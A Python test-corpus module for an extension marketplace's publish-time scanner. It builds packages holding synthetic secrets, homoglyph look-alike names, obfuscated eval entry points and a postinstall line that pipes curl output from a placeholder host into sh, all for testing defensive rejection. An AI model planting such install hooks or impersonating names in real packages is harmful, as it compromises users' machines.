"""The publish-time scan corpus: packages that must be refused, held, warned about or published, each with the
rules expected to fire. ``tests/unit/test_scan_corpus.py`` runs every case through ``scanning.scan``.

Structure: ``CASES`` is a flat list of ``Case``; each scanner's cases sit in a section of their own below
(add a section, and append its cases to ``CASES`` at the end of the file). ``build(tmp)`` writes a .vsix into
the temporary directory ``tmp`` and returns its path. ``expect`` is the outcome: ``reject``, ``quarantine``,
``warn`` (published, with WARN findings) or ``publish`` (no findings at all). ``rules`` is the exact set of
rule names the findings carry. ``scanners`` names the scanners the case runs through (None: every configured
one).

Secret values are assembled at run time from a fixed seed (``token``), so that this repository never holds a
string a secret scanner (ours or a code host's) would take for a live credential.
"""

from __future__ import annotations

import base64
import json
import random
import string
from collections.abc import Callable, Mapping
from dataclasses import dataclass
from pathlib import Path
from typing import Any

from tests import vsix_factory

REJECT, QUARANTINE, WARN, PUBLISH = "reject", "quarantine", "warn", "publish"


@dataclass(frozen=True)
class Case:
    name: str
    build: Callable[[Path], Path]
    expect: str  # REJECT | QUARANTINE | WARN | PUBLISH
    rules: frozenset[str] = frozenset()
    scanners: frozenset[str] | None = None  # run through these scanners only (None: every configured scanner)


def package(file_name: str, files: Mapping[str, bytes | str], /, **options: Any) -> Callable[[Path], Path]:
    """A builder of a vsce-like package with ``files`` (entry name -> content) added; ``options`` are
    ``vsix_factory.vsix_entries``'s (``publisher``, ``name``, ``version`` ...)."""

    def build(tmp: Path) -> Path:
        return vsix_factory.build_vsix(tmp / f"{file_name}.vsix", extra_files=files, **options)

    return build


ALNUM = string.ascii_letters + string.digits


def token(seed: str, length: int, alphabet: str = ALNUM) -> str:
    """``length`` characters of ``alphabet`` that look random, the same for the same seed."""
    generator = random.Random(seed)
    return "".join(generator.choice(alphabet) for _ in range(length))


def _b64url(value: Mapping[str, Any]) -> str:
    return base64.urlsafe_b64encode(json.dumps(value).encode()).rstrip(b"=").decode()


def jwt(claims: Mapping[str, Any], seed: str = "jwt") -> str:
    return ".".join((_b64url({"alg": "HS256", "typ": "JWT"}), _b64url(claims), token(seed, 43, ALNUM + "-_")))


def pem(kind: str, seed: str) -> str:
    body = base64.b64encode(random.Random(seed).randbytes(600)).decode()
    lines = [body[i:i + 64] for i in range(0, len(body), 64)]
    return "\n".join([f"-----BEGIN {kind}-----", *lines, f"-----END {kind}-----", ""])


def minified_bundle(size: int, seed: str = "bundle") -> str:
    """Deterministic minified JavaScript of about ``size`` characters, in long lines, with the shapes real
    bundles hold that a careless scanner takes for secrets: hex digests, base64 data, source maps, PEM
    parsers, ``npm_config_`` variables, an example JWT without issuer or expiry."""
    generator = random.Random(seed)
    names = ["".join(generator.choice(string.ascii_letters) for _ in range(generator.randint(1, 3)))
             for _ in range(400)]
    sample_jwt = jwt({"sub": "1234567890", "name": "John Doe", "iat": 1516239022})
    snippets: list[Callable[[], str]] = [
        lambda: f"function {generator.choice(names)}({generator.choice(names)},{generator.choice(names)})"
                f"{{return {generator.choice(names)}.{generator.choice(names)}({generator.choice(names)})}}",
        lambda: f"var {generator.choice(names)}=\"{random.Random(generator.random()).randbytes(20).hex()}\";",
        lambda: f"{generator.choice(names)}.exports={{{generator.choice(names)}:{generator.randint(0, 99999)}}};",
        lambda: f"const {generator.choice(names)}=\"data:image/png;base64,"
                f"{base64.b64encode(generator.randbytes(90)).decode()}\";",
        lambda: "if(/-----BEGIN (RSA |EC )?PRIVATE KEY-----/.test(e))throw new Error(\"PEM\");",
        lambda: "var n=process.env.npm_config_user_agent||process.env.npm_package_version;",
        lambda: f"const t=\"{sample_jwt}\";",
        lambda: f"{generator.choice(names)}[\"{token(str(generator.random()), 12)}\"]=function(){{}};",
        lambda: "return\"-----BEGIN \"+a+\"-----\\n\"+b+\"\\n-----END \"+a+\"-----\";",
    ]
    weights = [300, 40, 60, 8, 1, 1, 1, 120, 1]  # the shapes that look like secrets are rare in real bundles
    parts: list[str] = []
    length = 0
    line = 0
    while length < size:
        piece = generator.choices(snippets, weights)[0]()
        parts.append(piece)
        length += len(piece)
        line += len(piece)
        if line > 200_000:
            parts.append("\n")
            line = 0
    parts.append("\n//# sourceMappingURL=data:application/json;base64,"
                 + base64.b64encode(json.dumps({"version": 3, "sources": ["src/a.ts"]}).encode()).decode() + "\n")
    return "".join(parts)


# --------------------------------------------------------------------------------------------- secrets

SECRETS = frozenset({"secrets"})
AWS_KEY_ID = "AKIA" + token("aws-id", 16, string.ascii_uppercase + string.digits)
AWS_SECRET = token("aws-secret", 38) + "/" + "9"
GITHUB_TOKEN = "ghp_" + token("ghp", 36)
GITHUB_PAT = "github_pat_" + token("pat1", 22) + "_" + token("pat2", 59)
GITLAB_TOKEN = "glpat-" + token("glpat", 20)
NPM_TOKEN = "npm_" + token("npm", 36)
PYPI_TOKEN = "pypi-AgEIcHlwaS5vcmc" + token("pypi", 120, ALNUM + "-_")
SLACK_TOKEN = "xoxb-" + token("slack1", 11, string.digits) + "-" + token("slack2", 13, string.digits) + "-" + \
    token("slack3", 24)
STRIPE_KEY = "sk_live_" + token("stripe", 24)
GOOGLE_KEY = "AIza" + token("google", 35, ALNUM + "-_")
AZURE_KEY = base64.b64encode(random.Random("azure").randbytes(64)).decode()
ISSUED_JWT = jwt({"iss": "https://login.example.org", "sub": "svc", "exp": 4102444800}, seed="issued")
ALL_SECRET_VALUES = (AWS_KEY_ID, AWS_SECRET, GITHUB_TOKEN, GITHUB_PAT, GITLAB_TOKEN, NPM_TOKEN, PYPI_TOKEN, SLACK_TOKEN,
                     STRIPE_KEY, GOOGLE_KEY, AZURE_KEY, ISSUED_JWT)


def _secret(name: str, files: Mapping[str, str], *rules: str) -> Case:
    return Case(name, package(name, files), REJECT, frozenset(rules), SECRETS)


SECRET_CASES = [
    _secret("secret-aws-access-key", {"extension/out/config.js": (
        "module.exports = {\n  region: 'eu-west-1',\n"
        f"  accessKeyId: '{AWS_KEY_ID}',\n  secretAccessKey: '{AWS_SECRET}',\n}};\n")}, "secret.aws-access-key"),
    _secret("secret-github-token", {"extension/.env": f"# release\nGITHUB_TOKEN={GITHUB_TOKEN}\n"},
            "secret.github-token"),
    _secret("secret-github-fine-grained", {"extension/out/extension.js": f"const auth = \"{GITHUB_PAT}\";\n"},
            "secret.github-token"),
    _secret("secret-gitlab-token", {"extension/scripts/release.sh": (
        f"#!/bin/sh\ncurl --header \"PRIVATE-TOKEN: {GITLAB_TOKEN}\" https://gitlab.example.org/api/v4\n")},
        "secret.gitlab-token"),
    _secret("secret-npm-token", {"extension/.npmrc": f"//registry.npmjs.org/:_authToken={NPM_TOKEN}\n"},
            "secret.npm-token"),
    _secret("secret-npmrc-auth-token", {"extension/.npmrc": (
        "registry=https://npm.example.org/\n"
        f"//npm.example.org/:_authToken={token('npmrc', 8, string.hexdigits[:16])}-"
        f"{token('npmrc2', 27, string.hexdigits[:16])}\n"
    )}, "secret.credentials-file"),
    _secret("secret-env-password", {"extension/.env": "DB_HOST=localhost\nDB_PASSWORD=c0rrect-h0rse-battery\n"},
            "secret.credentials-file"),
    _secret("secret-pypi-token", {"extension/tools/upload.py": f"TOKEN = \"{PYPI_TOKEN}\"\n"}, "secret.pypi-token"),
    _secret("secret-slack-token", {"extension/out/notify.js": f"const slack = '{SLACK_TOKEN}';\n"},
            "secret.slack-token"),
    _secret("secret-stripe-live-key", {"extension/out/billing.js": f"stripe('{STRIPE_KEY}');\n"},
            "secret.stripe-key"),
    _secret("secret-google-api-key", {"extension/out/maps.js": f"fetch(`https://maps.example.org?key={GOOGLE_KEY}`)\n"},
            "secret.google-api-key"),
    _secret("secret-azure-storage-key", {"extension/appsettings.json": json.dumps({"Storage": (
        f"DefaultEndpointsProtocol=https;AccountName=myaccount;AccountKey={AZURE_KEY};"
        "EndpointSuffix=core.windows.net")}, indent=2)}, "secret.azure-storage-key"),
    _secret("secret-rsa-private-key", {"extension/id_rsa": pem("RSA PRIVATE KEY", "rsa")}, "secret.private-key"),
    _secret("secret-openssh-private-key", {"extension/keys/deploy_key": pem("OPENSSH PRIVATE KEY", "ssh")},
            "secret.private-key"),
    _secret("secret-ec-private-key", {"extension/certs/server.key": pem("EC PRIVATE KEY", "ec")},
            "secret.private-key"),
    _secret("secret-pkcs8-key-in-json", {"extension/out/service-account.json": json.dumps(
        {"type": "service_account", "private_key": pem("PRIVATE KEY", "pkcs8")})}, "secret.private-key"),
    _secret("secret-pgp-private-key", {"extension/keys/signing.asc": pem("PGP PRIVATE KEY BLOCK", "pgp")},
            "secret.private-key"),
    _secret("secret-jwt-issued", {"extension/out/auth.js": f"headers.Authorization = 'Bearer {ISSUED_JWT}';\n"},
            "secret.jwt"),
    Case("secret-large-file-warns", package("secret-large-file-warns", {
        "extension/dist/huge.js": minified_bundle(2 * 1024 * 1024 + 4096, seed="huge")}), WARN,
        frozenset({"secret.unscanned"}), SECRETS),
]

MUST_PASS_CASES = [
    Case("pass-ordinary-extension", package("pass-ordinary-extension", {}), PUBLISH, frozenset(), SECRETS),
    Case("pass-minified-bundle", package("pass-minified-bundle", {
        "extension/dist/extension.js": minified_bundle(1024 * 1024)}), PUBLISH, frozenset(), SECRETS),
    Case("pass-aws-example-key-fixture", package("pass-aws-example-key-fixture", {
        "extension/test/fixtures/credentials.js": (
            "// the documented AWS example credentials\n"
            "exports.credentials = {\n  accessKeyId: 'AKIAIOSFODNN7EXAMPLE',\n"
            "  secretAccessKey: 'wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY',\n};\n")}), PUBLISH, frozenset(), SECRETS),
    Case("pass-readme-token-placeholder", package("pass-readme-token-placeholder", {}, readme=(
        "# Hello\n\nSet your token first:\n\n    set GITHUB_TOKEN=ghp_xxx\n    export GITHUB_TOKEN="
        "ghp_xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx\n    export NPM_TOKEN=npm_000000000000000000000000000000000000\n\n"
        "Keys look like `-----BEGIN RSA PRIVATE KEY-----\\n...\\n-----END RSA PRIVATE KEY-----`.\n")),
        PUBLISH, frozenset(), SECRETS),
    Case("pass-env-template-and-references", package("pass-env-template-and-references", {
        "extension/.env.example": "DB_PASSWORD=hunter2-but-only-an-example\n",
        "extension/.npmrc": "//registry.npmjs.org/:_authToken=${NPM_TOKEN}\n",
        "extension/.env": "DB_PASSWORD=\nAPI_PASSWORD=<your password>\n"}), PUBLISH, frozenset(), SECRETS),
    Case("pass-example-jwt", package("pass-example-jwt", {
        "extension/out/sample.js": "const t = '" + jwt({"sub": "1234567890", "name": "John Doe", "iat": 1516239022})
                                   + "';\n"}), PUBLISH, frozenset(), SECRETS),
    Case("pass-binary-image-and-wasm", package("pass-binary-image-and-wasm", {
        "extension/media/logo.png": vsix_factory.png_bytes(32, 32),
        "extension/out/lib.wasm": b"\0asm\x01\0\0\0" + random.Random("wasm").randbytes(20000)}),
        PUBLISH, frozenset(), SECRETS),
]


CASES: list[Case] = [*SECRET_CASES, *MUST_PASS_CASES]


# --------------------------------------------------------------------------------- blocklist and look-alike names
# These scanners read the deployment's data (the operator's blocklist in the publishing table, the most installed
# extensions in the search snapshot), so their cases run through ``SCANNER_FIXTURES``: scanners over the fixture
# data below (an in-memory store, a fixed list of popular extensions). They are kept out of ``CASES``, whose runner
# takes the configured scanners; tests/unit/test_scan_blocklist.py and test_scan_names.py run them.

BLOCKLIST, NAMES = frozenset({"blocklist"}), frozenset({"names"})
BLOCKED_PAYLOAD = b"require('child_process').exec('curl -s https://payload.example | sh');\n"
BLOCKED_EXTENSION = "blockedpub.stealer"
BLOCKED_PACKAGE_OPTIONS: dict[str, Any] = {"publisher": "somepub", "name": "known-bad", "version": "6.6.6"}
POPULAR_FIXTURE = (("ms-python.python", "Python"), ("esbenp.prettier-vscode", "Prettier - Code formatter"),
                   ("eamodio.gitlens", "GitLens \u2014 Git supercharged"))
EXISTING_FIXTURE = frozenset({"ms-python.python", "esbenp.prettier-vscode", "eamodio.gitlens"})


def _blocklist_scanner() -> Any:
    import hashlib
    import tempfile
    from datetime import UTC, datetime

    from marketplace.publishing.scanning.blocklist import BlocklistScanner
    from tests.fakes.publishing_store import FakePublishingStore

    store = FakePublishingStore()
    with tempfile.TemporaryDirectory() as tmp:  # the package is built the same way each time: its hash is known
        path = vsix_factory.build_vsix(Path(tmp) / "known-bad.vsix", **BLOCKED_PACKAGE_OPTIONS)
        package_sha256 = hashlib.sha256(path.read_bytes()).hexdigest()
    for kind, value, reason in (("package", package_sha256, "a known credential stealer"),
                                ("file", hashlib.sha256(BLOCKED_PAYLOAD).hexdigest(), "a known worm's payload"),
                                ("extension", BLOCKED_EXTENSION, "taken down after an incident")):
        store.put_block(store.block_item(kind, value, reason, "operator", datetime.now(UTC)))
    return BlocklistScanner(store)


def _names_scanner() -> Any:
    from marketplace.publishing.scanning.names import NamesScanner, Popular

    popular = [Popular(i, n) for i, n in POPULAR_FIXTURE]
    entries = [(p, p.id_skeleton, p.name_skeleton) for p in popular]
    return NamesScanner(popular=lambda: entries, exists=EXISTING_FIXTURE.__contains__)


SCANNER_FIXTURES: dict[str, Callable[[], Any]] = {"blocklist": _blocklist_scanner, "names": _names_scanner}


def named(case: str, publisher: str, name: str, display_name: str, **options: Any) -> Callable[[Path], Path]:
    """A builder of a package of ``publisher.name`` with ``display_name``."""
    return package(case, {}, publisher=publisher, name=name, package_json_overrides={"displayName": display_name},
                   **options)

BLOCKLIST_CASES = [
    Case("blocklist-package-hash", lambda tmp: vsix_factory.build_vsix(tmp / "known-bad.vsix",
                                                                       **BLOCKED_PACKAGE_OPTIONS),
         REJECT, frozenset({"blocklist.package"}), BLOCKLIST),
    Case("blocklist-file-hash", package("blocklist-file-hash", {"extension/dist/postinstall.js": BLOCKED_PAYLOAD}),
         REJECT, frozenset({"blocklist.file"}), BLOCKLIST),
    Case("blocklist-extension-id", named("blocklist-extension-id", "blockedpub", "stealer", "Helper"),
         REJECT, frozenset({"blocklist.extension"}), BLOCKLIST),
    Case("pass-blocklist-unlisted", package("pass-blocklist-unlisted", {
        "extension/dist/postinstall.js": BLOCKED_PAYLOAD + b"// changed\n"}), PUBLISH, frozenset(), BLOCKLIST),
]

NAME_CASES = [
    Case("name-confusable-cyrillic", named("name-confusable-cyrillic", "someone", "helper", "\u0420yth\u043en"),
         REJECT, frozenset({"name.lookalike"}), NAMES),
    Case("name-separator-game", named("name-separator-game", "mspython", "python", "Python tools"),
         REJECT, frozenset({"name.lookalike"}), NAMES),
    Case("pass-name-genuinely-different", named("pass-name-genuinely-different", "someone", "rust-helper",
                                                "Rust Helper"),
         PUBLISH, frozenset(), NAMES),
    Case("pass-name-new-version-of-popular", named("pass-name-new-version-of-popular", "ms-python", "python",
                                                   "Python", version="2026.1.0"),
         PUBLISH, frozenset(), NAMES),
]


# ------------------------------------------------------------------------------------------------- update diffs
# The update-diff scanner compares a package with the version it follows, so each case has a previous package too
# (``UPDATE_PREVIOUS``, by case name); tests/unit/test_scan_updates.py runs them with that package handed in.

UPDATES = frozenset({"updates"})
BUNDLED = {"main": "./dist/extension.js"}
_PACKED_PAYLOAD = base64.b64encode(random.Random("packed").randbytes(60_000)).decode()


def _bundle_with_version(version: str) -> str:
    return minified_bundle(512 * 1024, "update-bundle").replace("1.0.0", version) + f';var VERSION="{version}";'


def _tsc_output() -> str:
    """What ``tsc`` writes for a small extension: short lines, no bundling."""
    body = "".join(f"function handler{i}(context) {{\n"
                   f"    return vscode.window.showInformationMessage('step {i}');\n}}\n"
                   f"exports.handler{i} = handler{i};\n" for i in range(300))
    return '"use strict";\nObject.defineProperty(exports, "__esModule", { value: true });\n' \
           'const vscode = require("vscode");\n' + body


UPDATE_CASES = [
    Case("update-adds-native-binary", package("update-adds-native-binary", {
        "extension/dist/extension.js": _bundle_with_version("1.0.1"),
        "extension/bin/linux/addon.node": b"\x7fELF\x02\x01\x01" + random.Random("elf").randbytes(4000)},
        version="1.0.1", package_json_overrides=BUNDLED), QUARANTINE, frozenset({"update.native-binary"}), UPDATES),
    Case("update-obfuscated-entry-point", package("update-obfuscated-entry-point", {
        "extension/extension.js": f"var _p='{_PACKED_PAYLOAD}';eval(atob(_p));"}, version="1.0.1"),
        QUARANTINE, frozenset({"update.obfuscation", "update.code-execution"}), UPDATES),
    Case("update-activation-star", package("update-activation-star", {}, version="1.0.1",
                                           package_json_overrides={"activationEvents": ["*"]}),
         WARN, frozenset({"update.activation"}), UPDATES),
    Case("pass-update-minified-version-strings", package("pass-update-minified-version-strings", {
        "extension/dist/extension.js": _bundle_with_version("1.0.1")}, version="1.0.1",
        package_json_overrides=BUNDLED), PUBLISH, frozenset(), UPDATES),
    Case("pass-update-tsc-to-minified-bundle", package("pass-update-tsc-to-minified-bundle", {
        "extension/dist/extension.js": _bundle_with_version("1.0.1")}, version="1.0.1",
        package_json_overrides=BUNDLED), PUBLISH, frozenset(), UPDATES),
]

UPDATE_PREVIOUS: dict[str, Callable[[Path], Path]] = {
    "update-adds-native-binary": package("previous-bundle", {
        "extension/dist/extension.js": _bundle_with_version("1.0.0")}, package_json_overrides=BUNDLED),
    "update-obfuscated-entry-point": package("previous-plain", {}),
    "update-activation-star": package("previous-plain", {}),
    "pass-update-minified-version-strings": package("previous-bundle", {
        "extension/dist/extension.js": _bundle_with_version("1.0.0")}, package_json_overrides=BUNDLED),
    "pass-update-tsc-to-minified-bundle": package("previous-tsc", {"extension/dist/extension.js": _tsc_output()},
                                                  package_json_overrides=BUNDLED),
}
